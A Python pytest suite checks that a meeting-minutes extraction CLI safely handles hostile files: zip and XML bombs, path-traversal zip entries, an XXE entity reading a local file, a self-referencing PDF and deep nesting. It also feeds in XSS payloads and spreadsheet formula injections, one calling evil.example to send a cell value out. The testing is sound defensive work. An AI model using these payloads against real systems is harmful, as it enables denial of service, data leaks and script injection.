"""Files that are made to harm: each costs one line, bounded time and memory, and the good one beside it goes in."""

import csv
import io
import time
import zipfile
from pathlib import Path

import psutil
import pytest
from click.testing import CliRunner, Result
from markdown_it import MarkdownIt

from psr_extract.cli import main

resource = pytest.importorskip("resource", reason="this measures time and memory as POSIX systems tell them")
GOOD = "Mill Ward Forum\n\nMinutes of 20 March 2025\n\nAction: Jane Roe to count the ducks.\n"
WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {one} "{f"&{before};" * 10}">' for before, one in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)
MEMORY = 1_500_000_000
"""More than any file here may need, with the program itself."""


def run(*arguments: str | Path) -> Result:
    return CliRunner().invoke(main, [str(argument) for argument in arguments])


def zipped(path: Path, **entries: bytes | str) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in entries.items():
            package.writestr(name.replace("__", "/").replace("_", "."), content)


def zip_bomb(folder: Path) -> None:
    zipped(folder / "bomb.zip", a_txt=bytes(100_000_000))


def docx_bomb(folder: Path) -> None:
    zipped(folder / "bomb.docx", word__document_xml=WORD.format("<w:p/>" * 10_000_000))


def zips_in_zips(folder: Path) -> None:
    inner = GOOD.encode()
    name = "a.txt"
    for _ in range(12):
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w") as package:
            package.writestr(name, inner)
        inner, name = held.getvalue(), "a.zip"
    (folder / "deep.zip").write_bytes(inner)


def climbing_zip(folder: Path) -> None:
    with zipfile.ZipFile(folder / "climb.zip", "w") as package:
        package.writestr("../../../climbed.txt", "no")
        package.writestr("/tmp/climbed.txt", "no")
        package.writestr("..\\climbed.txt", "no")


def xml_bomb(folder: Path) -> None:
    zipped(folder / "laughs.docx", word__document_xml=LAUGHS + WORD.format("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>"))


def xml_of_the_machine(folder: Path) -> None:
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{folder.parent}/secret.txt">]>'
    (folder.parent / "secret.txt").write_text("my secret", encoding="utf-8")
    zipped(folder / "entity.docx", word__document_xml=entity + WORD.format("<w:p><w:r><w:t>x &e;</w:t></w:r></w:p>"))


def nested_html(folder: Path) -> None:
    (folder / "deep.html").write_text("<html><body>" + "<div><table><tr><td>" * 30_000 + "x", encoding="utf-8")


def nested_docx(folder: Path) -> None:
    cell, end = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    zipped(folder / "deep.docx", word__document_xml=WORD.format(cell * 20_000 + "<w:p/>" + end * 20_000))


def looping_pdf(folder: Path) -> None:
    """Page trees that hold themselves, and a form that draws itself."""
    drawn = "<< /Length 12 >>\nstream\n/F Do /F Do \nendstream"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 1000000 /Parent 2 0 R >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << /XObject << /F 4 0 R >> >> /Contents 5 0 R >>",
        f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 4 0 R >> >> {drawn[3:]}",
        drawn,
    ]
    data = b"%PDF-1.4\n"
    places = []
    for number, text in enumerate(objects, 1):
        places.append(len(data))
        data += f"{number} 0 obj\n{text}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    start = len(data)
    data += f"xref\n0 6\n0000000000 65535 f \n{table}trailer\n<< /Size 6 /Root 1 0 R /Prev {start} >>\n".encode()
    (folder / "loop.pdf").write_bytes(data + f"startxref\n{start}\n%%EOF\n".encode())


def sparse(folder: Path) -> None:
    with (folder / "sparse.pdf").open("wb") as file:
        file.write(b"%PDF-1.4\n")
        file.truncate(2_000_000_000)


def one_line(folder: Path) -> None:
    (folder / "line.txt").write_bytes(b"a" * 30_000_000)


@pytest.mark.parametrize(
    "make",
    [zip_bomb, docx_bomb, zips_in_zips, climbing_zip, xml_bomb, xml_of_the_machine, nested_html, nested_docx,
     looping_pdf, sparse, one_line],
    ids=lambda make: make.__name__,
)  # fmt: skip
def test_a_hostile_file_costs_one_line(tmp_path: Path, db: Path, make: object) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    assert callable(make)
    make(folder)
    (folder / "z.txt").write_text(GOOD, encoding="utf-8")
    began = time.process_time() + _children()
    result = run("ingest", folder, "--db", db, "--time-limit", "10", "--memory-limit", "1000")
    assert time.process_time() + _children() - began < 60
    assert "Traceback" not in result.output
    assert len([line for line in result.stderr.splitlines() if line.startswith("Error: ")]) <= 1
    assert "z.txt: read, 1 action" in result.stdout
    assert "my secret" not in run("actions", "--db", db).output + run("inbox", "--db", db).output
    assert not list(tmp_path.rglob("climbed.txt")) and not Path("/tmp/climbed.txt").exists()
    assert psutil.Process().memory_info().rss < MEMORY
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024 < MEMORY


def _children() -> float:
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


EVIL = """Mill <script>alert(1)</script> Forum

Minutes of the meeting held on 20 March 2025

Present: Jane "><img src=x onerror=alert(2)> Roe (Chair)

Action: =HYPERLINK("http://evil.example/?"&A1,"ducks") to be counted by Jane Roe by 5 May 2025.

Action: Jane Roe to mend <script>alert(3)</script> [the gate](javascript:alert(4)) by 5 May 2025.

Action: @SUM(1+1)*cmd|' /C calc'!A0 to be counted by Jane Roe.

Action: +1 to be counted by Jane Roe.

Action: -2+3 to be counted by Jane Roe.
"""


@pytest.fixture
def evil(tmp_path: Path, db: Path) -> Path:
    (tmp_path / "<b>evil.txt").write_text(EVIL, encoding="utf-8")
    assert run("ingest", tmp_path / "<b>evil.txt", "--db", db).exit_code == 0
    return db


def test_reports_hold_no_scripts(evil: Path, tmp_path: Path) -> None:
    run("report", "--db", evil, "--out", tmp_path / "out")
    page = (tmp_path / "out" / "actions.html").read_text(encoding="utf-8")
    for words in ("<script>alert", "<img", "<b>evil", "href=\"javascript"):
        assert words not in page
    assert "&lt;script&gt;alert(3)" in page
    text = (tmp_path / "out" / "actions.md").read_text(encoding="utf-8")
    shown = MarkdownIt("commonmark", {"html": True}).render(text)
    assert "<script" not in shown and "<a " not in shown and "<b>" not in shown


@pytest.mark.parametrize("command", ["actions", "people", "meetings", "inbox", "decisions"])
@pytest.mark.parametrize("form", ["csv", "tsv"])
def test_no_cell_is_a_formula(evil: Path, command: str, form: str) -> None:
    said = run(command, "--db", evil, "--format", form).stdout
    lines = io.StringIO(said)
    rows = list(csv.reader(lines) if form == "csv" else csv.reader(lines, delimiter="\t", quoting=csv.QUOTE_NONE))
    assert rows
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
